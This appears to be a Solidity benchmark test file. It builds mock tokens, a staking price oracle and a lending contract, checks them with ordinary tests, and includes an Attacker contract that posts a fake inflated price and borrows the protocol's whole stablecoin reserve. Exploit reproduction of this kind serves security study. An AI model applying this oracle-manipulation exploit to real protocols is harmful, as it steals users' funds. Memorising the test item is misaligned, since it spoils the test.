// SPDX-License-Identifier: MIT
pragma solidity 0.8.19;

import "./BonqPriceFeed.sol";

// assay-canary-9e83e6fa-9249-4462-b2c9-a97423c98e0e

interface Vm {
    function prank(address sender) external;
    function startPrank(address sender) external;
    function stopPrank() external;
    function warp(uint256 time) external;
    function expectRevert(bytes calldata reason) external;
}

contract Token is IERC20 {
    address private minter = msg.sender;
    bool public silent;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function mint(address to, uint256 amount) external {
        require(msg.sender == minter, "minter only");
        balanceOf[to] += amount;
    }

    function quieten() external {
        require(msg.sender == minter, "minter only");
        silent = true;
    }

    function approve(address spender, uint256 amount) external {
        allowance[msg.sender][spender] = amount;
    }

    function transfer(address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        balanceOf[msg.sender] -= amount;
        balanceOf[to] += amount;
        return true;
    }

    function transferFrom(address from, address to, uint256 amount) external returns (bool) {
        if (silent) return false;
        allowance[from][msg.sender] -= amount;
        balanceOf[from] -= amount;
        balanceOf[to] += amount;
        return true;
    }
}

contract Trb is Token {
    string public constant symbol = "TRB";
}

contract Albt is Token {
    string public constant symbol = "ALBT";
}

contract Proof {
    Vm internal constant vm = Vm(0x7109709ECfa91a80626fF3989D68f67F5b1DD12D);
    address internal constant ANA = address(0xA9A);
    address internal constant BEN = address(0xBE9);
    address internal constant CAT = address(0xCA7);
    bytes32 internal constant QUERY = keccak256("ALBT/EUR");

    Trb internal trb;
    Albt internal albt;
    Token internal beur;
    TellorFlex internal tellor;
    TellorPriceFeed internal feed;
    BonqTroves internal troves;
    Attacker internal thief;

    function setUp() public {
        vm.warp(1675200000);
        trb = new Trb();
        albt = new Albt();
        beur = new Token();
        tellor = new TellorFlex(trb);
        feed = new TellorPriceFeed(tellor);
        troves = new BonqTroves(albt, beur, feed);
        beur.mint(address(troves), 1_000_000e18);
        trb.mint(ANA, 20e18);
        vm.startPrank(ANA);
        trb.approve(address(tellor), type(uint256).max);
        tellor.depositStake();
        tellor.submitValue(QUERY, 5e16);
        vm.stopPrank();
        trb.mint(CAT, 10e18);
        vm.startPrank(CAT);
        trb.approve(address(tellor), type(uint256).max);
        tellor.depositStake();
        tellor.submitValue(QUERY, 5e16);
        vm.stopPrank();
        albt.mint(BEN, 3000e18);
        vm.startPrank(BEN);
        albt.approve(address(troves), type(uint256).max);
        beur.approve(address(troves), type(uint256).max);
        troves.increaseCollateral(3000e18);
        vm.stopPrank();
        vm.warp(1675200000 + 1 hours);
        thief = new Attacker(tellor, troves, trb, albt, beur);
        trb.mint(address(thief), 10e18);
        albt.mint(address(thief), 1e17);
    }

    function test_Regular() public {
        vm.startPrank(BEN);
        troves.borrow(100e18);
        require(beur.balanceOf(BEN) == 100e18, "lent");
        troves.repay(100e18);
        troves.decreaseCollateral(3000e18);
        require(albt.balanceOf(BEN) == 3000e18 && troves.debt(BEN) == 0, "back");
        vm.stopPrank();
        vm.prank(CAT);
        tellor.submitValue(QUERY, 6e16);
        vm.startPrank(ANA);
        tellor.depositStake();
        tellor.submitValue(QUERY, 6e16);
        vm.stopPrank();
        require(feed.price() == 6e16, "newer");
        tellor.disputeValue(QUERY, 3);
        tellor.disputeValue(QUERY, 2);
        require(feed.price() == 5e16, "the one before");
        require(tellor.stakeOf(ANA) == 0 && trb.balanceOf(address(this)) == 30e18, "slashed");
    }

    function test_RefusesReports() public {
        vm.prank(BEN);
        vm.expectRevert(abi.encodeWithSelector(NoStake.selector));
        tellor.submitValue(QUERY, 1);
        vm.prank(ANA);
        vm.expectRevert(abi.encodeWithSelector(NotGovernance.selector));
        tellor.disputeValue(QUERY, 0);
        tellor.disputeValue(QUERY, 0);
        vm.expectRevert("struck already");
        tellor.disputeValue(QUERY, 0);
        tellor.disputeValue(QUERY, 1);
        vm.expectRevert("no price");
        feed.price();
    }

    function test_RefusesOldPrice() public {
        vm.warp(1675200000 + 1 days);
        require(feed.price() == 5e16, "still good");
        vm.warp(1675200000 + 1 days + 1);
        vm.expectRevert("old price");
        feed.price();
    }

    function test_RefusesThinTroves() public {
        vm.startPrank(BEN);
        vm.expectRevert("below MCR");
        troves.borrow(100e18 + 1);
        troves.borrow(100e18);
        vm.expectRevert("below MCR");
        troves.decreaseCollateral(1e18);
        vm.stopPrank();
    }

    function test_RefusesSilentTokens() public {
        vm.prank(BEN);
        troves.borrow(50e18);
        trb.quieten();
        albt.quieten();
        beur.quieten();
        vm.startPrank(BEN);
        vm.expectRevert("albt not in");
        troves.increaseCollateral(0);
        vm.expectRevert("albt not out");
        troves.decreaseCollateral(1);
        vm.expectRevert("beur not out");
        troves.borrow(1);
        vm.expectRevert("beur not in");
        troves.repay(1);
        vm.expectRevert("trb not in");
        tellor.depositStake();
        vm.stopPrank();
        vm.expectRevert("trb not out");
        tellor.disputeValue(QUERY, 0);
    }

    function exploit() public {
        thief.run();
    }

    function test_Exploit() public {
        exploit();
        require(beur.balanceOf(address(thief)) >= 1_000_000e18, "nothing gained");
    }

    function asset() public view returns (address) {
        return address(beur);
    }

    function target() public view returns (address) {
        return address(feed);
    }

    function attacker() public view returns (address) {
        return address(thief);
    }
}

/// Reports a price and borrows against it at once.
contract Attacker {
    TellorFlex internal tellor;
    BonqTroves internal troves;
    Token internal trb;
    Token internal albt;
    Token internal beur;

    constructor(TellorFlex tellor_, BonqTroves troves_, Token trb_, Token albt_, Token beur_) {
        tellor = tellor_;
        troves = troves_;
        trb = trb_;
        albt = albt_;
        beur = beur_;
    }

    function run() external {
        trb.approve(address(tellor), 10e18);
        tellor.depositStake();
        tellor.submitValue(keccak256("ALBT/EUR"), 5e27);
        albt.approve(address(troves), 1e17);
        troves.increaseCollateral(1e17);
        troves.borrow(beur.balanceOf(address(troves)));
    }
}
